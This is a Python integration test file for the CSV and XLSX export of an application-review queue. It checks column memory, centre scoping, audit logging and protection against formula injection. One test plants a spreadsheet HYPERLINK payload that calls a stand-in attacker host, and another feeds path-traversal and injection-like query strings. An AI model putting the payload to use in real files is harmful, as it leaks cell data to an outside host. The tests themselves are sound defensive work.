"""Exports of the filtered queue: CSV and XLSX, chosen columns remembered per user,
scoped like the queue, formulas neutralised, bad parameters harmless."""

from __future__ import annotations

import csv
import io
import socket
from datetime import datetime

import openpyxl
from redis.asyncio import Redis

from app.core.codes.applications import DossierStatus, Verdict
from app.core.codes.staff import StaffRole
from app.review.export_audit import QUEUE_EXPORT_ACTION
from app.review.exports import (
    DEFAULT_COLUMNS,
    export_url,
    file_url,
    preference_key,
    remember_columns,
    remembered_columns,
)
from app.review.identity import load_staff_member
from app.review.queue_filter import QueueFilter
from app.review.queue_query import queue_ids
from app.tables.applications import Application
from app.tables.dossier import Candidate
from app.tables.ops import AuditEvent
from tests.factories import make_campaign, make_centre, make_commission, make_programme
from tests.factories_dossier import decide, make_decision_type, make_received_application
from tests.factories_staff import STAFF_PASSWORD, make_staff
from tests.fixtures.web import post_form
from tests.integration.review.test_counts import _status

EXPORT_CSV = "/staff/candidatures/export.csv"
EXPORT_XLSX = "/staff/candidatures/export.xlsx"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
INJECTION = '=HYPERLINK("http://attaquant.example/?x="&A1;"Cliquez")'


async def world():
    campaign = await make_campaign()
    centre_a, centre_b = await make_centre(campaign), await make_centre(campaign)
    medecine = await make_programme(await make_commission(centre_a), label="MEDECINE CESURE")
    informatique = await make_programme(
        await make_commission(centre_b), label="INFORMATIQUE CESURE"
    )
    apps_a = [(await make_received_application(campaign, medecine))[1] for _ in range(3)]
    apps_b = [(await make_received_application(campaign, informatique))[1] for _ in range(2)]
    await _status(apps_a[1], DossierStatus.COMPLETE)
    await decide(apps_a[1], await make_decision_type(Verdict.FAVOURABLE, label_fr="Avis favorable"))
    return campaign, (centre_a, medecine, apps_a), (centre_b, informatique, apps_b)


async def sign_in(client, role, username="bureau", **scopes) -> int:
    user_id = await make_staff(role, username=username, **scopes)
    response = await post_form(
        client, "/staff/connexion", {"username": username, "password": STAFF_PASSWORD}
    )
    assert response.status_code == 303
    return user_id


async def logins(application_ids: list[int]) -> list[str]:
    rows = await Application.select(
        Application.id, Application.candidate.account.login.as_alias("login")
    ).where(Application.id.is_in(application_ids))
    by_id = {row["id"]: row["login"] for row in rows}
    return [by_id[i] for i in application_ids]


def read_csv(body: bytes) -> list[list[str]]:
    assert body.startswith(b"\xef\xbb\xbf")  # the BOM French Excel needs to read UTF-8
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig")), delimiter=";"))


def read_xlsx(body: bytes):
    workbook = openpyxl.load_workbook(io.BytesIO(body))
    return workbook.active


async def test_xlsx_holds_exactly_the_filtered_rows_and_the_chosen_columns(client):
    campaign, (_, medecine, apps_a), _ = await world()
    user_id = await sign_in(client, StaffRole.CENTRAL_OFFICE)
    central = await load_staff_member(user_id)
    queue = QueueFilter(programme=medecine.id, sort="nom")
    url = file_url(
        queue, "xlsx", ["naissance", "dossier", "transmission", "bac", "statut", "decision"]
    )

    response = await client.get(url)
    assert response.status_code == 200
    assert response.headers["content-type"] == XLSX
    assert (
        response.headers["content-disposition"]
        == 'attachment; filename="candidatures-2026-06-15.xlsx"'
    )
    assert int(response.headers["content-length"]) == len(response.content)
    sheet = read_xlsx(response.content)
    rows = list(sheet.iter_rows())
    assert [cell.value for cell in rows[0]] == [
        "N° de dossier",
        "Date de naissance",
        "Année du bac",
        "Date de transmission",
        "Statut du dossier",
        "Décision",
    ]  # the fixed order of the columns, whatever the order asked
    expected = await logins(await queue_ids(central, queue, campaign_id=campaign.id))
    assert len(expected) == 3
    assert [row[0].value for row in rows[1:]] == expected
    for row in rows[1:]:
        born, bac, sent = row[1], row[2], row[3]
        assert born.is_date and born.value == datetime(2004, 5, 17)
        assert born.number_format == "dd/mm/yyyy"
        assert sent.is_date and sent.value == datetime(2026, 6, 15)
        assert bac.value == 2022 and bac.data_type == "n"
    by_login = {row[0].value: row for row in rows[1:]}
    decided = by_login[(await logins([apps_a[1]]))[0]]
    assert [decided[4].value, decided[5].value] == ["Complet", "Avis favorable"]


async def test_csv_is_french_excel_csv_with_the_filtered_rows(client):
    _campaign, (_, _medecine, apps_a), (_, _, apps_b) = await world()
    await sign_in(client, StaffRole.CENTRAL_OFFICE)
    response = await client.get(
        file_url(QueueFilter(status="RE"), "csv", ["dossier", "nom", "naissance", "formation"])
    )
    assert response.status_code == 200
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert (
        response.headers["content-disposition"]
        == 'attachment; filename="candidatures-2026-06-15.csv"'
    )
    rows = read_csv(response.content)
    assert rows[0] == ["N° de dossier", "Nom", "Date de naissance", "Formation"]
    received = [apps_a[0], apps_a[2], *apps_b]  # apps_a[1] is complete
    assert sorted(row[0] for row in rows[1:]) == sorted(await logins(received))
    assert {row[2] for row in rows[1:]} == {"17/05/2004"}
    assert {row[3] for row in rows[1:]} == {"MEDECINE CESURE", "INFORMATIQUE CESURE"}


async def test_a_centre_manager_exports_its_own_rows_only(client):
    _campaign, (centre_a, _, apps_a), (centre_b, _, apps_b) = await world()
    await sign_in(client, StaffRole.CENTRE_MANAGER, centres=[centre_a])
    for queue in (QueueFilter(), QueueFilter(centre=centre_b.id)):
        csv_rows = read_csv((await client.get(file_url(queue, "csv", ["dossier"]))).content)
        xlsx = read_xlsx((await client.get(file_url(queue, "xlsx", ["dossier"]))).content)
        xlsx_rows = [row[0] for row in xlsx.iter_rows(min_row=2, values_only=True)]
        if queue.centre:  # another centre named in the URL: nothing
            assert csv_rows == [["N° de dossier"]] and xlsx_rows == []
        else:
            assert sorted(row[0] for row in csv_rows[1:]) == sorted(await logins(apps_a))
            assert sorted(xlsx_rows) == sorted(await logins(apps_a))
    assert not set(await logins(apps_b)) & {row[0] for row in csv_rows}


async def test_the_chosen_columns_are_remembered_per_user(client, redis):
    await world()
    user_id = await sign_in(client, StaffRole.CENTRAL_OFFICE, username="premier")
    page = await client.get(export_url(QueueFilter()))
    assert page.status_code == 200
    assert page.text.count('name="colonnes"') == 19
    assert page.text.count(" checked>") == len(DEFAULT_COLUMNS)

    await client.get("/staff/candidatures/export.csv?colonnes=ine&colonnes=email&colonnes=x")
    assert await redis.get(preference_key(user_id)) == b"ine,email"
    again = read_csv((await client.get("/staff/candidatures/export.csv")).content)
    assert again[0] == ["INE", "Adresse électronique"]
    assert all("@" in row[1] for row in again[1:]) and len(again) == 6
    page = await client.get("/staff/candidatures/export")
    assert 'value="ine" checked>' in page.text and 'value="email" checked>' in page.text
    assert page.text.count(" checked>") == 2

    await post_form(client, "/staff/deconnexion", {})
    await sign_in(client, StaffRole.CENTRAL_OFFICE, username="second")
    other = read_csv((await client.get("/staff/candidatures/export.csv")).content)
    assert len(other[0]) == len(DEFAULT_COLUMNS) and other[0][0] == "N° de dossier"


async def test_without_redis_the_defaults_apply_and_nothing_fails():
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        port = sock.getsockname()[1]
    dead = Redis.from_url(f"redis://127.0.0.1:{port}/0", socket_connect_timeout=0.2)
    try:
        await remember_columns(dead, 1, ["ine"])
        assert await remembered_columns(dead, 1) == list(DEFAULT_COLUMNS)
    finally:
        await dead.aclose()


async def test_formulas_are_neutralised_in_both_formats(client):
    _campaign, (_, _, apps_a), _ = await world()
    candidate = (
        await Application.select(Application.candidate).where(Application.id == apps_a[0]).first()
    )["candidate"]
    await Candidate.update(
        {
            Candidate.birth_name: INJECTION,
            Candidate.usual_name: "#N/A",  # an error code, to a spreadsheet
            Candidate.first_name: "@SUM(1+1)\x01",  # and a control character
        }
    ).where(Candidate.id == candidate)
    await sign_in(client, StaffRole.CENTRAL_OFFICE)
    queue = QueueFilter(q="hyperlink")
    columns = ["nom", "prenom", "nom_naissance"]
    rows = read_csv((await client.get(file_url(queue, "csv", columns))).content)
    assert rows[1:] == [["#N/A", "'@SUM(1+1)\x01", "'" + INJECTION.upper()]]

    sheet = read_xlsx((await client.get(file_url(queue, "xlsx", columns))).content)
    cells = next(sheet.iter_rows(min_row=2))
    assert [cell.value for cell in cells] == ["#N/A", "@SUM(1+1)", INJECTION.upper()]
    assert [cell.data_type for cell in cells] == ["s", "s", "s"]  # text, never run
    assert cells[1].quotePrefix and cells[2].quotePrefix  # Excel keeps them text when edited


async def test_bad_parameters_never_fail(client):
    campaign, *_ = await world()
    other = await make_campaign(active=False)
    await sign_in(client, StaffRole.CENTRE_MANAGER, centres=[await make_centre(other)])
    garbage = (
        "?statut=ZZ&centre=-1&formation=99999999999999&depuis=hier&tri=password&page=0"
        f"&q=%27%22%3B--&colonnes=../../etc&colonnes=&campagne={campaign.id}&reponse=%FF"
    )
    for path in ("/staff/candidatures/export", EXPORT_CSV, EXPORT_XLSX):
        response = await client.get(path + garbage)
        assert response.status_code == 200, path
    # The defaults, and nothing of the active campaign: it is not this manager's.
    assert read_csv((await client.get(EXPORT_CSV + garbage)).content)[1:] == []
    # Control characters: ignored here, or refused by the security layer (400).
    for path in ("/staff/candidatures/export", EXPORT_CSV, EXPORT_XLSX):
        assert (await client.get(path + "?q=%00%01")).status_code in (200, 400), path
    # No column ticked on the form: the page says so.
    response = await client.get(EXPORT_XLSX + "?choix=1&statut=RE")
    assert response.status_code == 200
    assert "Cochez au moins une colonne à exporter." in response.text
    assert 'name="statut" value="RE"' in response.text


async def test_anonymous_visitors_are_sent_to_sign_in(client):
    response = await client.get("/staff/candidatures/export.csv?statut=RE")
    assert response.status_code == 303
    assert response.headers["location"].startswith("/staff/connexion?suivant=")


async def test_headers_and_labels_follow_the_chosen_language(client):
    await world()
    await sign_in(client, StaffRole.CENTRAL_OFFICE)
    client.cookies.set("ecesure_lang", "en", domain="testserver.local")
    queue = QueueFilter(status="CO")
    rows = read_csv((await client.get(file_url(queue, "csv", ["dossier", "statut"]))).content)
    assert rows[0] == ["File number", "File status"] and rows[1][1] == "Complete"
    sheet = read_xlsx((await client.get(file_url(queue, "xlsx", ["dossier", "statut"]))).content)
    assert sheet.title == "Applications"
    assert [c.value for c in next(sheet.iter_rows(min_row=2))][1] == "Complete"
    home = await client.get("/staff/")
    assert "Applications per programme and file status" in home.text


async def test_each_export_is_in_the_audit_trail_with_its_filter_and_columns(client):
    campaign, (_, medecine, _), _ = await world()
    user_id = await sign_in(client, StaffRole.CENTRAL_OFFICE)
    queue = QueueFilter(programme=medecine.id, q="Dupont")
    assert (await client.get(file_url(queue, "csv", ["nom", "dossier"]))).status_code == 200
    assert (await client.get(file_url(QueueFilter(), "xlsx", ["dossier"]))).status_code == 200
    assert (await client.get(EXPORT_CSV, params={"choix": "1"})).status_code == 200  # no column

    events = (
        await AuditEvent.select(
            AuditEvent.actor_kind,
            AuditEvent.actor_id,
            AuditEvent.entity,
            AuditEvent.entity_id,
            AuditEvent.data,
        )
        .where(AuditEvent.action == QUEUE_EXPORT_ACTION)
        .order_by(AuditEvent.id)
        .output(load_json=True)
    )
    staff = {"actor_kind": "staff", "actor_id": user_id, "entity": "campaign"}
    assert events == [
        {
            **staff,
            "entity_id": campaign.id,
            "data": {
                "format": "csv",
                "columns": ["dossier", "nom"],
                "filter": {"formation": str(medecine.id), "q": "Dupont"},
            },
        },
        {
            **staff,
            "entity_id": campaign.id,
            "data": {"format": "xlsx", "columns": ["dossier"], "filter": {}},
        },
    ]  # the form sent with no column ticked exported nothing, so it is not recorded
